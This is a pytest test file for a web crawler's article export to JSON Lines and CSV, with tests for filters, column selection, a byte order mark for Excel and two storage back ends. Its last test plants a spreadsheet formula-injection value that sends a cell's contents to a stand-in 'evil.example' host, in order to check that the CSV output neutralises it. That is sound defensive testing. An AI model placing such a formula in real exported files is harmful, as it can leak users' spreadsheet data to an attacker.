"""Export of a store filled by a real crawl of the mini portals: JSONL, CSV, filters, BOM."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import Any

import pytest

from crawler.analytics.export import EXPORT_FIELDS, export_articles
from crawler.analytics.scan import scan
from crawler.storage import ArticleStore
from tests.analytics.sample_data import A1, A2, A3, B1, B3, populate

SEED_PATH = "/tin-moi/hoi-nghi-truc-tuyen-cong-tac-dan-van-nam-2021-37511"
UPU_TITLE = (
    "Cuộc thi viết thư quốc tế UPU lần thứ 47 (2018) của Việt Nam trên địa bàn thành phố Hà Nội"
)


def jsonl(store: ArticleStore, **kwargs: Any) -> list[dict[str, Any]]:
    out = io.StringIO()
    count = export_articles(store, out, "jsonl", **kwargs)
    rows = [json.loads(line) for line in out.getvalue().splitlines()]
    assert count == len(rows)
    return rows


def csv_rows(store: ArticleStore, **kwargs: Any) -> tuple[bytes, list[list[str]]]:
    out = io.BytesIO()
    count = export_articles(store, out, "csv", **kwargs)
    raw = out.getvalue()
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert count == len(rows) - 1
    return raw, rows


def test_jsonl_has_every_field_in_vietnam_time(crawled: ArticleStore) -> None:
    rows = jsonl(crawled)
    assert len(rows) == 9
    assert all(list(r) == list(EXPORT_FIELDS) for r in rows)
    seed = next(r for r in rows if r["url"].endswith(SEED_PATH))
    assert seed["title"] == "Hội nghị trực tuyến công tác Dân vận năm 2021"
    assert seed["published_at"] == "2021-03-15T10:20:00+07:00"  # stored 03:20Z
    assert seed["published_raw"] == "Thứ Hai, 15/03/2021 10:20"
    assert seed["views"] == 137 and seed["views_raw"] == "137"
    assert seed["published_date_only"] is False and seed["duplicate_of"] is None
    assert seed["images"][0]["caption"].startswith("Hội nghị trực tuyến tập huấn")
    assert seed["views_history"][0]["views"] == 137
    assert seed["views_history"][0]["at"].endswith("+07:00")
    assert seed["first_seen_at"].endswith("+07:00")
    assert "\n\n" in seed["body"]
    # ordered by site, newest first
    keys = [(r["site_id"], r["published_at"]) for r in rows]
    assert [k[0] for k in keys] == sorted(k[0] for k in keys)
    giao_thuy = [k[1] for k in keys if k[0] == "nd-giaothuy"]
    assert giao_thuy == sorted(giao_thuy, reverse=True)


def test_csv_cells(crawled: ArticleStore) -> None:
    raw, rows = csv_rows(crawled)
    assert not raw.startswith(b"\xef\xbb\xbf")
    header, body = rows[0], rows[1:]
    assert header == list(EXPORT_FIELDS)
    assert len(body) == 9
    records = [dict(zip(header, row, strict=True)) for row in body]
    seed = next(r for r in records if r["url"].endswith(SEED_PATH))
    assert seed["published_at"] == "2021-03-15T10:20:00+07:00"
    assert seed["views"] == "137" and seed["published_date_only"] == "false"
    assert seed["duplicate_of"] == ""  # null
    images = json.loads(seed["images"])  # lists and objects are JSON strings
    assert images[0]["url"].endswith("hoi-nghi-dan-van-1.jpg")
    assert json.loads(seed["missing"]) == []
    assert json.loads(seed["views_history"])[0]["views"] == 137
    assert seed["body"].count("\n\n") >= 3  # multi-line cells survive quoting
    legacy = next(r for r in records if r["title"].startswith("Phổ biến quy định"))
    assert legacy["author"] == "" and legacy["published_date_only"] == "true"


def test_site_and_vietnam_day_filters(crawled: ArticleStore) -> None:
    assert {r["site_id"] for r in jsonl(crawled, site=["nd-giaothuy"])} == {"nd-giaothuy"}
    assert len(jsonl(crawled, site=["nd-giaothuy"])) == 5
    assert len(jsonl(crawled, site=["nd-giaothuy", "hn-sotttt"])) == 9
    assert jsonl(crawled, site=["nowhere"]) == []
    one_day = jsonl(crawled, since=date(2021, 1, 14), until=date(2021, 1, 14), fields=["title"])
    assert len(one_day) == 2 and all(
        "Lâm Dũng" in r["title"] or "Bạch Long" in r["title"] for r in one_day
    )
    assert jsonl(crawled, since=date(2021, 1, 15), until=date(2021, 3, 14)) == []
    assert len(jsonl(crawled, since=date(2021, 3, 15), until=date(2021, 3, 15))) == 1
    # a date-only article is stored as 00:00 Vietnam time = 17:00Z the day before
    legacy = jsonl(
        crawled,
        since=date(2013, 10, 24),
        until=date(2013, 10, 24),
        fields=["published_at", "published_date_only"],
    )
    assert legacy == [{"published_at": "2013-10-24T00:00:00+07:00", "published_date_only": True}]
    assert len(jsonl(crawled, since=date(2021, 1, 1))) == 5
    assert len(jsonl(crawled, until=date(2020, 12, 31))) == 4


def test_fields_select_and_order_columns(crawled: ArticleStore) -> None:
    rows = jsonl(crawled, fields=["views", "title"], site=["hn-sotttt"])
    assert all(list(r) == ["views", "title"] for r in rows)
    assert {"views": 38661, "title": UPU_TITLE} in rows
    _, csv_table = csv_rows(crawled, fields=["title", "views"], site=["hn-sotttt"])
    assert csv_table[0] == ["title", "views"]
    assert [UPU_TITLE, "38661"] in csv_table
    with pytest.raises(ValueError, match="unknown field"):
        export_articles(crawled, io.StringIO(), "csv", fields=["title", "password"])


def test_bom_for_excel(crawled: ArticleStore) -> None:
    raw, rows = csv_rows(crawled, bom=True, fields=["title"])
    assert raw.startswith(b"\xef\xbb\xbftitle\r\n")
    assert raw[3:].decode("utf-8").count("\ufeff") == 0
    assert len(rows) == 10
    text = io.StringIO()
    export_articles(crawled, text, "csv", bom=True, fields=["title"])
    assert text.getvalue().startswith("\ufefftitle")
    assert text.getvalue().encode("utf-8") == raw
    with pytest.raises(ValueError, match="byte order mark"):
        export_articles(crawled, io.BytesIO(), "jsonl", bom=True)


def test_binary_output_is_utf8_and_left_open(crawled: ArticleStore) -> None:
    out = io.BytesIO()
    export_articles(crawled, out, "jsonl", fields=["title"])
    assert not out.closed
    out.write(b"")  # still usable by the caller
    titles = [json.loads(line)["title"] for line in out.getvalue().decode("utf-8").splitlines()]
    assert UPU_TITLE in titles
    assert "Thủy".encode() in out.getvalue()  # UTF-8, not \\u escapes


# -- both back ends, both code paths ---------------------------------------------------------
def test_export_on_both_stores(store: ArticleStore) -> None:
    populate(store)
    rows = jsonl(store, fields=["canonical_url", "published_at"], since=date(2021, 2, 1))
    assert [r["canonical_url"] for r in rows] == [B3, B1, A3, A1]  # by site, newest first
    assert rows[-1]["published_at"] == "2021-02-01T00:30:00+07:00"
    assert A2 not in {r["canonical_url"] for r in rows}  # 23:30 on 31 January, Vietnam time


def test_streaming_paths_agree(store: ArticleStore) -> None:
    """The embedded path (ids first, then batches) returns what a server cursor returns."""
    populate(store)
    as_server = ArticleStore(store.db, store.description, embedded=False)
    projection = {"_id": 0, "canonical_url": 1, "site_id": 1, "published_at": 1}
    sort = [("site_id", 1), ("published_at", -1)]
    for batch_size in (1, 2, 500):
        batched = list(scan(store, store.articles, {}, projection, sort, batch_size))
        cursor = list(scan(as_server, store.articles, {}, projection, sort, batch_size))
        assert batched == cursor
        assert len(batched) == 6
    # undated last when newest first, as MongoDB sorts null lowest
    assert batched[2]["canonical_url"].endswith("undated-b2")


def test_csv_cells_that_a_spreadsheet_would_run_are_text(store: ArticleStore) -> None:
    """A scraped title such as ``=HYPERLINK(...)`` must not become a formula in Excel."""
    from datetime import UTC, datetime

    hostile = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'
    store.upsert_articles(
        [
            {
                "canonical_url": "http://x.gov.vn/a",
                "url": "http://x.gov.vn/a",
                "site_id": "x",
                "title": hostile,
                "author": "@admin",
                "summary": "-1+1",
                "body": "Nội dung",
                "views": -3,
            },
        ],
        datetime(2024, 1, 1, tzinfo=UTC),
    )
    _, rows = csv_rows(store, fields=["title", "author", "summary", "body", "views"])
    assert rows[1] == ["'" + hostile, "'@admin", "'-1+1", "Nội dung", "-3"]
    assert jsonl(store, fields=["title"])[0]["title"] == hostile  # JSON Lines: as stored
